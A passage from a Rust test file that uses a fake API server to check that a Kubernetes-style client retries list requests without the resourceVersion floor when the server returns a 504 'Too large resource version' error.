/// the first saw. A server that refuses that (its watch cache did not get
/// there in time: 504, `Too large resource version`) is asked again
/// without it, and the answer is whole.
#[test]
fn a_list_whose_floor_the_server_refuses_is_asked_again_consistently() {
    let seen: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let log = Arc::clone(&seen);
    // More types in one group version than the lists that start at once.
    let types: Vec<(String, String)> = (0..48)
        .map(|i| (format!("part{i:02}s"), format!("Part{i:02}")))
        .collect();
    let server = fake::serve(move |req, stream| {
        if req.path.split('?').next() == Some("/apis") {
            let types: Vec<(&str, &str)> = types
                .iter()
                .map(|(p, k)| (p.as_str(), k.as_str()))
                .collect();
            return fake::reply(
                stream,
                200,
                &fake::group_discovery("example.com", "v1", &types),
            );
        }
        if let Some(body) = fake::discovery(&req.path) {
            return fake::reply(stream, 200, &body);
        }
        log.lock().unwrap().push(req.path.clone());
        if req.path.contains("resourceVersionMatch=NotOlderThan") {
            std::thread::sleep(Duration::from_millis(200));
            let status = serde_json::json!({"kind": "Status", "apiVersion": "v1", "metadata": {},
                "status": "Failure", "message": "Too large resource version: 9, current: 7",
                "reason": "Timeout", "details": {"causes": [{"reason": "ResourceVersionTooLarge",
                "message": "Too large resource version"}], "retryAfterSeconds": 1}, "code": 504});
            return fake::reply(stream, 504, &status.to_string());
        }
        let list = serde_json::json!({"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "7"}, "items": []});
        fake::reply(stream, 200, &list.to_string())
    });
    let out = status_of(&server, Duration::from_secs(60));
    out.assert(0, Duration::from_secs(20));
    let seen = seen.lock().unwrap();
    let floored: Vec<&String> = seen
        .iter()
        .filter(|p| p.contains("resourceVersionMatch=NotOlderThan"))
        .collect();
    assert!(!floored.is_empty(), "{seen:?}");
    for path in &floored {
        assert!(path.contains("resourceVersion=7&"), "{path}");
        let plain = path.split("&resourceVersion=").next().unwrap();
        assert!(
            seen.iter().any(|p| p == plain),
            "{path} was not asked again: {seen:?}"
        );
    }
    for part in ["part00s", "part47s"] {
        assert!(seen.iter().any(|p| p.contains(part)), "{part}: {seen:?}");
    }
}
